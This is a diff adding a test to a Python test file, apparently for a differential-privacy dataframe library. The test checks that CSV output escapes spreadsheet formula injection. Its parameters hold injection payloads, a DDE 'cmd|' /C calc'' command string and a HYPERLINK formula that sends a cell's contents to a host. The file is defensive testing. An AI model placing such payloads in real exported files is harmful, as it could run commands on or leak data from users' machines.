@@ -15,6 +15,7 @@ from seen import table_of_page
 
 import dpframe as dpf
 from dpframe import noise
+from dpframe.errors import no_formula, no_formulas
 
 NAMES = ["=1+1", "b|c", "<script>", "\\LaTeX_%"]
 
@@ -163,6 +164,24 @@ def test_179_no_part_of_a_line_becomes_a_formula(sign):
         for cell in (cell for line in csv.reader(text.splitlines(), delimiter=mark) for cell in line):
             plain = cell.strip().strip('"').lstrip()
             assert not plain.startswith(sign) or re.fullmatch(r"-?[0-9.]+", plain), cell
+
+
+@pytest.mark.parametrize(
+    "label", ["a;+1,5+cmd|' /C calc'!A0;b", 'a;-1,0*HYPERLINK("http://x/"&A1);b', "a;+1)+cmd|' /C calc'!A0"]
+)
+def test_179_a_number_that_goes_on_at_its_comma_is_no_number(label):
+    """Where lines are cut at semicolons a comma is in a number, and what follows it is in the same cell."""
+    assert no_formula(label) == no_formulas(label) == label.replace(";", ";'", 1)
+    for number in ("a;+1,5;b", "a;-1.5", "[1;-2]", "(0;-1,5)"):
+        assert no_formula(number) == no_formulas(number) == number
+    assert no_formulas("-3, +2.5, (-1, -2)") == "-3, +2.5, (-1, -2)"
+    found = (
+        pl.DataFrame({"k": [label, "b"] * 9})
+        .dp.group_by("k", keys=[label, "b"])
+        .count(epsilon=1, ledger=dpf.Ledger(epsilon=1))
+    )
+    for cell in (cell for line in found.dp.table("csv").splitlines() for cell in line.split(";")):
+        assert not cell.lstrip(' "').startswith(("+", "-"))
 
 
 def test_110_names_are_escaped(wards):
